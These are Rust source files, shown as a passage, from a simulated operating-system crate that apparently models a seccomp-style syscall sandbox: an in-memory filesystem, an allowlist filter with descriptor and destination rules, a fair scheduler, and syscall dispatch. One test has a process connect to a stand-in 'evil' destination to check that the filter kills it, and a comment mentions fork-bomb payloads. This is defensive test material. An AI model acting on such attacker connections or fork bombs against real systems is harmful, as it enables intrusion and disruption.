    pub fn put(&mut self, path: &str, bytes: Vec<u8>) {
        self.fp = fold_bytes(mix(mix(self.fp, 1), hash_str(path)), &bytes);
        self.files.insert(path.to_owned(), bytes);
    }

    /// The mutation fingerprint (see the field docs on `fp`). Two file
    /// systems built by the same mutation sequence report the same value.
    pub fn fingerprint(&self) -> u64 {
        self.fp
    }

    /// Reads a whole file (harness-side inspection; bypasses syscalls).
    pub fn get(&self, path: &str) -> Option<&Vec<u8>> {
        self.files.get(path)
    }

    /// True when the path names an existing file.
    pub fn exists(&self, path: &str) -> bool {
        self.files.contains_key(path)
    }

    /// File size in bytes.
    pub fn size(&self, path: &str) -> Result<u64, Errno> {
        self.files
            .get(path)
            .map(|f| f.len() as u64)
            .ok_or(Errno::Enoent)
    }

    /// Creates an empty file if absent; errors if absent and `!create`.
    pub fn open(&mut self, path: &str, create: bool) -> Result<(), Errno> {
        if self.files.contains_key(path) {
            Ok(())
        } else if create {
            self.fp = mix(mix(self.fp, 2), hash_str(path));
            self.files.insert(path.to_owned(), Vec::new());
            Ok(())
        } else {
            Err(Errno::Enoent)
        }
    }

    /// Reads up to `len` bytes at `offset`.
    pub fn read_at(&self, path: &str, offset: u64, len: u64) -> Result<Vec<u8>, Errno> {
        let file = self.files.get(path).ok_or(Errno::Enoent)?;
        let start = (offset as usize).min(file.len());
        let end = (start + len as usize).min(file.len());
        Ok(file[start..end].to_vec())
    }

    /// Writes bytes at `offset`, growing the file as needed. Returns the
    /// number of bytes written.
    pub fn write_at(&mut self, path: &str, offset: u64, bytes: &[u8]) -> Result<u64, Errno> {
        let file = self.files.get_mut(path).ok_or(Errno::Enoent)?;
        let end = offset as usize + bytes.len();
        if file.len() < end {
            file.resize(end, 0);
        }
        file[offset as usize..end].copy_from_slice(bytes);
        self.fp = fold_bytes(mix(mix(mix(self.fp, 3), hash_str(path)), offset), bytes);
        Ok(bytes.len() as u64)
    }

    /// Removes a file.
    pub fn unlink(&mut self, path: &str) -> Result<(), Errno> {
        self.files.remove(path).map(|_| ()).ok_or(Errno::Enoent)?;
        self.fp = mix(mix(self.fp, 4), hash_str(path));
        Ok(())
    }

    /// Renames a file.
    pub fn rename(&mut self, from: &str, to: &str) -> Result<(), Errno> {
        let bytes = self.files.remove(from).ok_or(Errno::Enoent)?;
        self.files.insert(to.to_owned(), bytes);
        self.fp = mix(mix(mix(self.fp, 5), hash_str(from)), hash_str(to));
        Ok(())
    }

    /// Records a directory (no hierarchy enforcement).
    pub fn mkdir(&mut self, path: &str) {
        self.fp = mix(mix(self.fp, 6), hash_str(path));
        self.dirs.insert(path.to_owned(), ());
    }

    /// Lists files whose path starts with `prefix`.
    pub fn list(&self, prefix: &str) -> Vec<String> {
        self.files
            .keys()
            .filter(|k| k.starts_with(prefix))
            .cloned()
            .collect()
    }

    /// Number of files.
    pub fn file_count(&self) -> usize {
        self.files.len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn open_respects_create_flag() {
        let mut fs = SimFs::new();
        assert_eq!(fs.open("/a", false), Err(Errno::Enoent));
        fs.open("/a", true).unwrap();
        assert!(fs.exists("/a"));
        fs.open("/a", false).unwrap();
    }

    #[test]
    fn read_write_at_offsets() {
        let mut fs = SimFs::new();
        fs.put("/f", b"hello world".to_vec());
        assert_eq!(fs.read_at("/f", 6, 5).unwrap(), b"world");
        fs.write_at("/f", 6, b"simos").unwrap();
        assert_eq!(fs.get("/f").unwrap(), b"hello simos");
        // Writing past the end grows the file.
        fs.write_at("/f", 20, b"!").unwrap();
        assert_eq!(fs.size("/f").unwrap(), 21);
    }

    #[test]
    fn read_past_end_is_short() {
        let mut fs = SimFs::new();
        fs.put("/f", vec![1, 2, 3]);
        assert_eq!(fs.read_at("/f", 2, 10).unwrap(), vec![3]);
        assert_eq!(fs.read_at("/f", 9, 10).unwrap(), Vec::<u8>::new());
    }

    #[test]
    fn rename_and_unlink() {
        let mut fs = SimFs::new();
        fs.put("/a", vec![7]);
        fs.rename("/a", "/b").unwrap();
        assert!(!fs.exists("/a"));
        assert_eq!(fs.get("/b").unwrap(), &[7]);
        fs.unlink("/b").unwrap();
        assert_eq!(fs.unlink("/b"), Err(Errno::Enoent));
    }

    #[test]
    fn list_by_prefix() {
        let mut fs = SimFs::new();
        fs.put("/imgs/0.png", vec![]);
        fs.put("/imgs/1.png", vec![]);
        fs.put("/out/r.csv", vec![]);
        assert_eq!(fs.list("/imgs/").len(), 2);
        assert_eq!(fs.list("/out/").len(), 1);
    }
}
