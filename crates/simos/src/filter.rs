//! seccomp-BPF-style syscall filtering.
//!
//! FreePart restricts each agent process to the union of syscalls its
//! APIs need (§4.4.1). The filter model here reproduces the parts of
//! seccomp the paper relies on:
//!
//! * an **allowlist** of syscall numbers — anything else kills the
//!   process (`SECCOMP_RET_KILL`, surfaced as a `SIGSYS` fault);
//! * **fd-argument rules** for syscalls like `ioctl`/`connect`/`select`/
//!   `fcntl` that are only safe on designated descriptors;
//! * a **no-new-privs lock** (`PR_SET_NO_NEW_PRIVS`): once locked, a
//!   compromised process cannot install a more permissive filter.

use crate::syscall::{Fd, Syscall, SyscallNo};
use std::collections::{BTreeMap, BTreeSet};
use std::fmt;

/// Per-syscall fd restriction: the call is allowed only on these fds —
/// and, when `dest_prefix` is set, only toward matching destinations
/// (the "designated files" check of §4.4.1 for `connect`/`sendto`).
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct FdRule {
    allowed_fds: BTreeSet<Fd>,
    dest_prefixes: BTreeSet<String>,
}

impl FdRule {
    /// A rule permitting exactly the given descriptors.
    pub fn only<I: IntoIterator<Item = Fd>>(fds: I) -> FdRule {
        FdRule {
            allowed_fds: fds.into_iter().collect(),
            dest_prefixes: BTreeSet::new(),
        }
    }

    /// Additionally requires destination strings (for `connect`/`sendto`)
    /// to start with one of the configured prefixes.
    pub fn with_dest_prefix(mut self, prefix: &str) -> FdRule {
        self.dest_prefixes.insert(prefix.to_owned());
        self
    }

    /// Adds one more permitted descriptor.
    pub fn allow_fd(&mut self, fd: Fd) {
        self.allowed_fds.insert(fd);
    }

    /// True when the rule permits `fd`. A rule with no fd set is
    /// destination-only: any descriptor passes.
    pub fn permits(&self, fd: Fd) -> bool {
        self.allowed_fds.is_empty() || self.allowed_fds.contains(&fd)
    }

    /// True when the rule permits destination `dest` (always true when no
    /// prefix is configured).
    pub fn permits_dest(&self, dest: &str) -> bool {
        self.dest_prefixes.is_empty()
            || self
                .dest_prefixes
                .iter()
                .any(|p| dest.starts_with(p.as_str()))
    }
}

/// Verdict of evaluating one syscall against a filter.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FilterDecision {
    /// The call proceeds.
    Allow,
    /// The call kills the process (`SECCOMP_RET_KILL` / `SIGSYS`).
    Kill,
}

/// An installed, optionally locked, syscall allowlist with fd rules.
///
/// # Example
///
/// ```
/// use freepart_simos::{SyscallFilter, Syscall, FilterDecision, FdRule, Fd};
/// use freepart_simos::syscall::SyscallNo;
///
/// let mut f = SyscallFilter::allowing([SyscallNo::Read, SyscallNo::Ioctl]);
/// f.set_fd_rule(SyscallNo::Ioctl, FdRule::only([Fd(3)]));
///
/// assert_eq!(f.evaluate(&Syscall::Read { fd: Fd(0), len: 1 }), FilterDecision::Allow);
/// assert_eq!(f.evaluate(&Syscall::Getpid), FilterDecision::Kill);
/// assert_eq!(
///     f.evaluate(&Syscall::Ioctl { fd: Fd(9), request: 0 }),
///     FilterDecision::Kill,
/// );
/// ```
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct SyscallFilter {
    allowed: BTreeSet<SyscallNo>,
    fd_rules: BTreeMap<SyscallNo, FdRule>,
    locked: bool,
}

impl SyscallFilter {
    /// An empty filter (nothing allowed). Mostly useful in tests.
    pub fn deny_all() -> SyscallFilter {
        SyscallFilter::default()
    }

    /// A filter allowing exactly the given syscall numbers.
    pub fn allowing<I: IntoIterator<Item = SyscallNo>>(numbers: I) -> SyscallFilter {
        SyscallFilter {
            allowed: numbers.into_iter().collect(),
            fd_rules: BTreeMap::new(),
            locked: false,
        }
    }

    /// Adds a syscall to the allowlist.
    ///
    /// Mutation of an installed filter goes through the kernel, which
    /// refuses once the no-new-privs lock is set; this method itself is a
    /// plain builder step.
    pub fn allow(&mut self, no: SyscallNo) -> &mut Self {
        self.allowed.insert(no);
        self
    }

    /// Attaches an fd-argument rule to a syscall number. The call is then
    /// permitted only on the rule's descriptors.
    pub fn set_fd_rule(&mut self, no: SyscallNo, rule: FdRule) -> &mut Self {
        self.fd_rules.insert(no, rule);
        self
    }

    /// Marks the filter configuration immutable (`PR_SET_NO_NEW_PRIVS`).
    pub fn lock(&mut self) {
        self.locked = true;
    }

    /// True once [`SyscallFilter::lock`] has been called.
    pub fn is_locked(&self) -> bool {
        self.locked
    }

    /// True when the syscall number is on the allowlist (ignoring fd rules).
    pub fn allows_number(&self, no: SyscallNo) -> bool {
        self.allowed.contains(&no)
    }

    /// The allowlisted syscall numbers, sorted.
    pub fn allowed_numbers(&self) -> impl Iterator<Item = SyscallNo> + '_ {
        self.allowed.iter().copied()
    }

    /// Number of allowlisted syscalls.
    pub fn len(&self) -> usize {
        self.allowed.len()
    }

    /// True when nothing is allowed.
    pub fn is_empty(&self) -> bool {
        self.allowed.is_empty()
    }

    /// Evaluates a concrete syscall the way the in-kernel BPF program
    /// would: number check first, then the fd-argument rule if one exists.
    pub fn evaluate(&self, call: &Syscall) -> FilterDecision {
        let no = call.number();
        if !self.allowed.contains(&no) {
            return FilterDecision::Kill;
        }
        if let Some(rule) = self.fd_rules.get(&no) {
            let fd_ok = matches!(call.fd_arg(), Some(fd) if rule.permits(fd));
            let dest_ok = match call {
                Syscall::Connect { dest, .. } | Syscall::Sendto { dest, .. } => {
                    rule.permits_dest(dest)
                }
                _ => true,
            };
            if fd_ok && dest_ok {
                FilterDecision::Allow
            } else {
                // A non-designated descriptor or destination is a
                // violation.
                FilterDecision::Kill
            }
        } else {
            FilterDecision::Allow
        }
    }

    /// Union of two filters' allowlists (fd rules merge per syscall).
    /// Used when multiple API profiles share one agent process.
    pub fn merge(&mut self, other: &SyscallFilter) {
        self.allowed.extend(other.allowed.iter().copied());
        for (no, rule) in &other.fd_rules {
            let merged = self.fd_rules.entry(*no).or_default();
            merged.allowed_fds.extend(rule.allowed_fds.iter().copied());
            merged
                .dest_prefixes
                .extend(rule.dest_prefixes.iter().cloned());
        }
    }
}

impl fmt::Display for SyscallFilter {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let names: Vec<_> = self.allowed.iter().map(|n| n.name()).collect();
        write!(
            f,
            "filter[{}]{{{}}}",
            if self.locked { "locked" } else { "open" },
            names.join(", ")
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn deny_all_kills_everything() {
        let f = SyscallFilter::deny_all();
        assert_eq!(f.evaluate(&Syscall::Getpid), FilterDecision::Kill);
        assert!(f.is_empty());
    }

    #[test]
    fn allowlist_admits_listed_numbers_only() {
        let f = SyscallFilter::allowing([SyscallNo::Brk, SyscallNo::Read]);
        assert_eq!(f.evaluate(&Syscall::Brk { grow: 1 }), FilterDecision::Allow);
        assert_eq!(
            f.evaluate(&Syscall::Write {
                fd: Fd(1),
                bytes: vec![]
            }),
            FilterDecision::Kill
        );
    }

    #[test]
    fn fd_rule_restricts_designated_descriptors() {
        let mut f = SyscallFilter::allowing([SyscallNo::Connect]);
        f.set_fd_rule(SyscallNo::Connect, FdRule::only([Fd(5)]));
        let ok = Syscall::Connect {
            fd: Fd(5),
            dest: "gui".into(),
        };
        let bad = Syscall::Connect {
            fd: Fd(6),
            dest: "evil".into(),
        };
        assert_eq!(f.evaluate(&ok), FilterDecision::Allow);
        assert_eq!(f.evaluate(&bad), FilterDecision::Kill);
    }

    #[test]
    fn merge_unions_allowlists_and_rules() {
        let mut a = SyscallFilter::allowing([SyscallNo::Read]);
        a.set_fd_rule(SyscallNo::Ioctl, FdRule::only([Fd(1)]));
        a.allow(SyscallNo::Ioctl);
        let mut b = SyscallFilter::allowing([SyscallNo::Write, SyscallNo::Ioctl]);
        b.set_fd_rule(SyscallNo::Ioctl, FdRule::only([Fd(2)]));
        a.merge(&b);
        assert!(a.allows_number(SyscallNo::Write));
        assert_eq!(
            a.evaluate(&Syscall::Ioctl {
                fd: Fd(1),
                request: 0
            }),
            FilterDecision::Allow
        );
        assert_eq!(
            a.evaluate(&Syscall::Ioctl {
                fd: Fd(2),
                request: 0
            }),
            FilterDecision::Allow
        );
        assert_eq!(
            a.evaluate(&Syscall::Ioctl {
                fd: Fd(3),
                request: 0
            }),
            FilterDecision::Kill
        );
    }

    #[test]
    fn lock_is_observable() {
        let mut f = SyscallFilter::deny_all();
        assert!(!f.is_locked());
        f.lock();
        assert!(f.is_locked());
    }

    #[test]
    fn display_mentions_lock_state() {
        let mut f = SyscallFilter::allowing([SyscallNo::Read]);
        assert!(f.to_string().contains("open"));
        f.lock();
        assert!(f.to_string().contains("locked"));
    }
}
