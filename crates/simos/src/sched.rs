//! Deficit-round-robin fair scheduling for shared agent pools.
//!
//! In the pooled deployment model (`freepart`'s multi-tenant mode) one
//! agent process per API type serves hooked calls from N concurrent
//! tenant pipelines. Without admission control a chatty tenant that
//! enqueues a large burst monopolizes the pool ring and starves every
//! other tenant. [`DrrScheduler`] keeps per-pool run queues with one
//! FIFO per tenant and serves them deficit-round-robin: each tenant
//! accumulates `quantum` cost units per head-of-ring visit and may
//! dequeue work only while its deficit covers the next item's cost.
//!
//! The structure is a pure state machine — no clock, no I/O, no
//! entropy — so scheduling decisions are deterministic functions of the
//! enqueue order, which keeps pooled runs replayable.
//!
//! **Fairness bound.** With unit item costs and quantum `Q`, between an
//! item's enqueue at position `k` of its tenant's backlog and its
//! dequeue, every *other* tenant of the same pool is served at most
//! `Q · ceil((k+1)/Q) + Q` items — independent of how much work any
//! tenant has queued. The pooled proptests assert this window.

use std::collections::{BTreeMap, VecDeque};

/// A pool's run-queue key (one pool per partition/agent type).
pub type PoolId = u32;

/// A tenant key within a pool.
pub type TenantKey = u32;

/// One queued unit of work: an opaque caller tag plus its cost in
/// scheduler units (pooled callers use 1 per hooked call).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct Item {
    tag: u64,
    cost: u64,
}

#[derive(Debug, Default)]
struct TenantQueue {
    deficit: u64,
    items: VecDeque<Item>,
    /// True while this tenant sits somewhere in the pool's ring.
    in_ring: bool,
    /// Total cost units served to this tenant (fairness accounting).
    served_cost: u64,
}

#[derive(Debug, Default)]
struct Pool {
    /// Round-robin ring of tenants with queued work.
    ring: VecDeque<TenantKey>,
    tenants: BTreeMap<TenantKey, TenantQueue>,
    /// Whether the current ring head already received its quantum for
    /// this visit (a visit can span several `dequeue` calls).
    head_charged: bool,
    /// Items dequeued from this pool (per-pool fairness clock).
    served: u64,
}

/// Per-pool deficit-round-robin run queues over tenants.
#[derive(Debug)]
pub struct DrrScheduler {
    quantum: u64,
    pools: BTreeMap<PoolId, Pool>,
}

impl DrrScheduler {
    /// A scheduler granting `quantum` cost units per tenant per
    /// head-of-ring visit (min 1).
    pub fn new(quantum: u64) -> DrrScheduler {
        DrrScheduler {
            quantum: quantum.max(1),
            pools: BTreeMap::new(),
        }
    }

    /// The configured per-visit quantum.
    pub fn quantum(&self) -> u64 {
        self.quantum
    }

    /// Queues one work item for `tenant` on `pool`. Returns the number
    /// of items already queued for that tenant (its backlog position).
    pub fn enqueue(&mut self, pool: PoolId, tenant: TenantKey, tag: u64, cost: u64) -> usize {
        let p = self.pools.entry(pool).or_default();
        let q = p.tenants.entry(tenant).or_default();
        let position = q.items.len();
        q.items.push_back(Item {
            tag,
            cost: cost.max(1),
        });
        if !q.in_ring {
            q.in_ring = true;
            p.ring.push_back(tenant);
        }
        position
    }

    /// Dequeues the next work item from `pool` in DRR order, returning
    /// `(tenant, tag)`, or `None` when the pool is idle.
    pub fn dequeue(&mut self, pool: PoolId) -> Option<(TenantKey, u64)> {
        let quantum = self.quantum;
        let p = self.pools.get_mut(&pool)?;
        // Each iteration serves an item, rotates the ring head whose
        // deficit ran dry, or retires an emptied tenant — so the loop
        // terminates within one full ring pass plus one recharge round.
        loop {
            let head = *p.ring.front()?;
            let q = p.tenants.get_mut(&head).expect("ring members have queues");
            if !p.head_charged {
                q.deficit = q.deficit.saturating_add(quantum);
                p.head_charged = true;
            }
            match q.items.front().copied() {
                Some(item) if item.cost <= q.deficit => {
                    q.deficit -= item.cost;
                    q.served_cost += item.cost;
                    q.items.pop_front();
                    if q.items.is_empty() {
                        // An idle tenant's leftover deficit does not
                        // bank for later bursts (classic DRR).
                        q.deficit = 0;
                        q.in_ring = false;
                        p.ring.pop_front();
                        p.head_charged = false;
                    }
                    p.served += 1;
                    return Some((head, item.tag));
                }
                Some(_) => {
                    // Deficit exhausted: move to the back of the ring.
                    p.ring.rotate_left(1);
                    p.head_charged = false;
                }
                None => {
                    q.deficit = 0;
                    q.in_ring = false;
                    p.ring.pop_front();
                    p.head_charged = false;
                }
            }
        }
    }

    /// Items queued for `tenant` on `pool`.
    pub fn backlog(&self, pool: PoolId, tenant: TenantKey) -> usize {
        self.pools
            .get(&pool)
            .and_then(|p| p.tenants.get(&tenant))
            .map_or(0, |q| q.items.len())
    }

    /// Total items queued on `pool` across tenants.
    pub fn pool_len(&self, pool: PoolId) -> usize {
        self.pools
            .get(&pool)
            .map_or(0, |p| p.tenants.values().map(|q| q.items.len()).sum())
    }

    /// Tenants currently holding queued work on `pool`.
    pub fn active_tenants(&self, pool: PoolId) -> usize {
        self.pools.get(&pool).map_or(0, |p| p.ring.len())
    }

    /// Items dequeued from `pool` so far (the pool's fairness clock).
    pub fn served(&self, pool: PoolId) -> u64 {
        self.pools.get(&pool).map_or(0, |p| p.served)
    }

    /// Total cost units served to `tenant` on `pool`.
    pub fn served_cost(&self, pool: PoolId, tenant: TenantKey) -> u64 {
        self.pools
            .get(&pool)
            .and_then(|p| p.tenants.get(&tenant))
            .map_or(0, |q| q.served_cost)
    }

    /// True when no pool holds queued work.
    pub fn is_idle(&self) -> bool {
        self.pools
            .values()
            .all(|p| p.tenants.values().all(|q| q.items.is_empty()))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn drain(s: &mut DrrScheduler, pool: PoolId) -> Vec<(TenantKey, u64)> {
        let mut out = Vec::new();
        while let Some(x) = s.dequeue(pool) {
            out.push(x);
        }
        out
    }

    #[test]
    fn round_robin_interleaves_equal_tenants() {
        let mut s = DrrScheduler::new(1);
        for t in 0..3u32 {
            for i in 0..3u64 {
                s.enqueue(0, t, u64::from(t) * 10 + i, 1);
            }
        }
        let order = drain(&mut s, 0);
        let tenants: Vec<u32> = order.iter().map(|(t, _)| *t).collect();
        assert_eq!(tenants, vec![0, 1, 2, 0, 1, 2, 0, 1, 2]);
        // FIFO within each tenant.
        let t0: Vec<u64> = order
            .iter()
            .filter(|(t, _)| *t == 0)
            .map(|(_, g)| *g)
            .collect();
        assert_eq!(t0, vec![0, 1, 2]);
    }

    #[test]
    fn quantum_batches_per_visit() {
        let mut s = DrrScheduler::new(2);
        for t in 0..2u32 {
            for i in 0..4u64 {
                s.enqueue(0, t, u64::from(t) * 10 + i, 1);
            }
        }
        let tenants: Vec<u32> = drain(&mut s, 0).iter().map(|(t, _)| *t).collect();
        assert_eq!(tenants, vec![0, 0, 1, 1, 0, 0, 1, 1]);
    }

    #[test]
    fn chatty_tenant_cannot_starve_the_rest() {
        let mut s = DrrScheduler::new(2);
        // Tenant 0 floods 100 items; tenants 1..4 queue one each.
        for i in 0..100u64 {
            s.enqueue(0, 0, i, 1);
        }
        for t in 1..4u32 {
            s.enqueue(0, t, 1000 + u64::from(t), 1);
        }
        let order = drain(&mut s, 0);
        for t in 1..4u32 {
            let pos = order.iter().position(|(tt, _)| *tt == t).unwrap();
            // Served within the first ring pass: at most quantum items
            // per tenant ahead of it.
            assert!(pos <= 4 * 2, "tenant {t} starved to position {pos}");
        }
        assert_eq!(order.len(), 103);
    }

    #[test]
    fn expensive_items_wait_for_deficit() {
        let mut s = DrrScheduler::new(2);
        s.enqueue(0, 0, 1, 5); // needs three visits at quantum 2
        s.enqueue(0, 1, 2, 1);
        let order = drain(&mut s, 0);
        // Tenant 1's cheap item goes first while tenant 0 accumulates.
        assert_eq!(order[0], (1, 2));
        assert_eq!(order[1], (0, 1));
    }

    #[test]
    fn served_cost_tracks_fairly() {
        let mut s = DrrScheduler::new(2);
        for i in 0..10u64 {
            s.enqueue(0, 0, i, 1);
            s.enqueue(0, 1, 100 + i, 1);
        }
        // Serve 10 items: cost split 5/5 within one quantum.
        for _ in 0..10 {
            s.dequeue(0).unwrap();
        }
        let a = s.served_cost(0, 0);
        let b = s.served_cost(0, 1);
        assert!(a.abs_diff(b) <= 2, "cost skew {a} vs {b}");
    }

    #[test]
    fn pools_are_independent() {
        let mut s = DrrScheduler::new(1);
        s.enqueue(0, 0, 1, 1);
        s.enqueue(1, 1, 2, 1);
        assert_eq!(s.dequeue(1), Some((1, 2)));
        assert_eq!(s.dequeue(1), None);
        assert_eq!(s.dequeue(0), Some((0, 1)));
        assert!(s.is_idle());
    }

    #[test]
    fn idle_tenant_deficit_does_not_bank() {
        let mut s = DrrScheduler::new(4);
        s.enqueue(0, 0, 1, 1);
        assert_eq!(s.dequeue(0), Some((0, 1)));
        // Re-arrives with an expensive item: leftover quantum was reset,
        // so one fresh visit (4) cannot cover cost 5 immediately...
        s.enqueue(0, 0, 2, 5);
        s.enqueue(0, 1, 3, 1);
        let order = drain(&mut s, 0);
        assert_eq!(order[0], (1, 3), "cheap competitor first");
        assert_eq!(order[1], (0, 2));
    }
}
