//! Syscall dispatch: the per-call bodies behind [`CommitOp::Syscall`].
//!
//! Split out of [`step`](crate::core::step::step) so each core module
//! stays within the line budget the purity guard enforces. Everything
//! here obeys the same rules as `step` itself: state in, effects out,
//! no I/O, no ambient clock, no external entropy (the `Getrandom`
//! syscall draws from the deterministic [`EntropyStream`] seeded at
//! kernel construction).
//!
//! [`CommitOp::Syscall`]: crate::commit::CommitOp::Syscall
//! [`EntropyStream`]: super::state::KernelState

use crate::device::DeviceKind;
use crate::error::{Errno, FaultKind, SimResult};
use crate::mem::Perms;
use crate::process::{FdTarget, Pid, ProcessState};
use crate::syscall::{Syscall, SyscallRet};

use super::effects::{Counter, Effects};
use super::state::KernelState;
use super::step::crash;

/// Executes one already-filter-checked syscall body for `pid`.
pub(super) fn dispatch(
    state: &mut KernelState,
    fx: &mut Effects,
    pid: Pid,
    call: Syscall,
) -> SimResult<SyscallRet> {
    use Syscall as S;
    match call {
        // ---------------- file I/O ----------------
        S::Openat { path, create } => {
            if path.starts_with("/dev/video") {
                let fd = state
                    .process_mut(pid)?
                    .install_fd(FdTarget::Device(DeviceKind::Camera));
                return Ok(SyscallRet::NewFd(fd));
            }
            state.fs.open(&path, create)?;
            let fd = state
                .process_mut(pid)?
                .install_fd(FdTarget::File { path, offset: 0 });
            Ok(SyscallRet::NewFd(fd))
        }
        S::Close { fd } => {
            state.process_mut(pid)?.fd_table.remove(&fd);
            Ok(SyscallRet::Ok)
        }
        S::Read { fd, len } => {
            let target = state
                .process(pid)?
                .fd_target(fd)
                .cloned()
                .ok_or(Errno::Ebadf)?;
            match target {
                FdTarget::File { path, offset } => {
                    let bytes = state.fs.read_at(&path, offset, len)?;
                    let ns = state.cost.file_cost(bytes.len() as u64);
                    state.charge_to(fx, pid, ns);
                    if let Some(FdTarget::File { offset, .. }) =
                        state.process_mut(pid)?.fd_table.get_mut(&fd)
                    {
                        *offset += bytes.len() as u64;
                    }
                    Ok(SyscallRet::Bytes(bytes))
                }
                FdTarget::Device(DeviceKind::Camera) => {
                    let frame = state
                        .camera
                        .as_mut()
                        .map(|c| c.capture())
                        .ok_or(Errno::Enosys)?;
                    let ns = state.cost.file_cost(frame.len() as u64);
                    state.charge_to(fx, pid, ns);
                    Ok(SyscallRet::Bytes(frame))
                }
                _ => Err(Errno::Enosys.into()),
            }
        }
        S::Write { fd, bytes } => {
            let target = state
                .process(pid)?
                .fd_target(fd)
                .cloned()
                .ok_or(Errno::Ebadf)?;
            match target {
                FdTarget::File { path, offset } => {
                    let n = state.fs.write_at(&path, offset, &bytes)?;
                    let ns = state.cost.file_cost(n);
                    state.charge_to(fx, pid, ns);
                    if let Some(FdTarget::File { offset, .. }) =
                        state.process_mut(pid)?.fd_table.get_mut(&fd)
                    {
                        *offset += n;
                    }
                    Ok(SyscallRet::Num(n))
                }
                FdTarget::Socket { dest } => {
                    net_send(state, fx, pid, &dest, &bytes);
                    Ok(SyscallRet::Num(bytes.len() as u64))
                }
                FdTarget::Device(DeviceKind::GuiSocket) => {
                    state.display.blitted_bytes += bytes.len() as u64;
                    Ok(SyscallRet::Num(bytes.len() as u64))
                }
                _ => Err(Errno::Enosys.into()),
            }
        }
        S::Lseek { fd, pos } => match state.process_mut(pid)?.fd_table.get_mut(&fd) {
            Some(FdTarget::File { offset, .. }) => {
                *offset = pos;
                Ok(SyscallRet::Num(pos))
            }
            Some(_) => Err(Errno::Enosys.into()),
            None => Err(Errno::Ebadf.into()),
        },
        S::Fstat { fd } => {
            let target = state
                .process(pid)?
                .fd_target(fd)
                .cloned()
                .ok_or(Errno::Ebadf)?;
            match target {
                FdTarget::File { path, .. } => Ok(SyscallRet::Num(state.fs.size(&path)?)),
                _ => Ok(SyscallRet::Num(0)),
            }
        }
        S::Lstat { path } | S::Stat { path } | S::Access { path } => {
            if state.fs.exists(&path) {
                Ok(SyscallRet::Num(state.fs.size(&path)?))
            } else {
                Err(Errno::Enoent.into())
            }
        }
        S::Getdents { path } => {
            let listing = state.fs.list(&path).join("\n");
            Ok(SyscallRet::Bytes(listing.into_bytes()))
        }
        S::Mkdir { path } => {
            state.fs.mkdir(&path);
            Ok(SyscallRet::Ok)
        }
        S::Unlink { path } => {
            state.fs.unlink(&path)?;
            Ok(SyscallRet::Ok)
        }
        S::Rename { from, to } => {
            state.fs.rename(&from, &to)?;
            Ok(SyscallRet::Ok)
        }
        S::Umask { mask } => Ok(SyscallRet::Num(mask as u64)),
        S::Dup { fd } => {
            let target = state
                .process(pid)?
                .fd_target(fd)
                .cloned()
                .ok_or(Errno::Ebadf)?;
            let new = state.process_mut(pid)?.install_fd(target);
            Ok(SyscallRet::NewFd(new))
        }
        S::Fcntl { fd } => {
            state.process(pid)?.fd_target(fd).ok_or(Errno::Ebadf)?;
            Ok(SyscallRet::Ok)
        }

        // ---------------- memory ----------------
        S::Brk { grow } => {
            let addr = state.process_mut(pid)?.aspace.alloc(grow.max(1), Perms::RW);
            Ok(SyscallRet::Mapped(addr))
        }
        S::Mmap { len, perms } => {
            let addr = state.process_mut(pid)?.aspace.alloc(len.max(1), perms);
            Ok(SyscallRet::Mapped(addr))
        }
        S::Munmap { addr, len } => {
            state.process_mut(pid)?.aspace.unmap(addr, len);
            Ok(SyscallRet::Ok)
        }
        S::Mprotect { addr, len, perms } => {
            let p = state.procs.get_mut(&pid).expect("checked");
            match p.aspace.protect(addr, len, perms) {
                Ok(changed) => {
                    if changed > 0 {
                        let ns = state.cost.mprotect_cost(changed);
                        state.charge_to(fx, pid, ns);
                        state.bump(fx, Counter::ProtectedPages, changed);
                    }
                    Ok(SyscallRet::Num(changed))
                }
                Err(_) => Err(Errno::Einval.into()),
            }
        }

        // ---------------- process ----------------
        S::Fork => {
            // Semantically a no-op in the cooperative simulation; the
            // call exists so fork-bomb payloads hit the filter.
            let ns = state.cost.spawn_ns;
            state.charge_to(fx, pid, ns);
            Ok(SyscallRet::Num(0))
        }
        S::Execve { .. } => Ok(SyscallRet::Ok),
        S::Exit { code } => {
            state.process_mut(pid)?.state = ProcessState::Exited(code);
            Ok(SyscallRet::Ok)
        }
        S::Kill { target_pid } => {
            crash(state, fx, Pid(target_pid), FaultKind::Abort, None);
            Ok(SyscallRet::Ok)
        }
        S::Getpid => Ok(SyscallRet::Num(pid.0 as u64)),
        S::Getuid => Ok(SyscallRet::Num(1000)),
        S::Getcwd => Ok(SyscallRet::Bytes(b"/".to_vec())),
        S::Uname => Ok(SyscallRet::Bytes(b"simos 1.0".to_vec())),
        S::SchedYield => Ok(SyscallRet::Ok),
        S::Nanosleep { ns } => {
            state.charge_to(fx, pid, ns);
            Ok(SyscallRet::Ok)
        }
        S::PrctlNoNewPrivs => {
            let p = state.process_mut(pid)?;
            p.no_new_privs = true;
            if let Some(f) = &mut p.filter {
                f.lock();
            }
            Ok(SyscallRet::Ok)
        }
        S::Seccomp => Ok(SyscallRet::Ok),

        // ---------------- devices ----------------
        S::Ioctl { fd, .. } => match state.process(pid)?.fd_target(fd) {
            Some(FdTarget::Device(_)) => Ok(SyscallRet::Ok),
            Some(_) => Ok(SyscallRet::Ok),
            None => Err(Errno::Ebadf.into()),
        },
        S::Select { .. } | S::Poll { .. } => Ok(SyscallRet::Ok),
        S::Eventfd2 => {
            let fd = state
                .process_mut(pid)?
                .install_fd(FdTarget::Device(DeviceKind::Event));
            Ok(SyscallRet::NewFd(fd))
        }

        // ---------------- sockets ----------------
        S::Socket => {
            let fd = state.process_mut(pid)?.install_fd(FdTarget::Socket {
                dest: String::new(),
            });
            Ok(SyscallRet::NewFd(fd))
        }
        S::Connect { fd, dest } => {
            let is_gui = dest.starts_with("gui");
            match state.process_mut(pid)?.fd_table.get_mut(&fd) {
                Some(FdTarget::Socket { dest: d }) => {
                    *d = dest;
                    if is_gui {
                        state.display.connect();
                    }
                    Ok(SyscallRet::Ok)
                }
                Some(_) => Err(Errno::Enosys.into()),
                None => Err(Errno::Ebadf.into()),
            }
        }
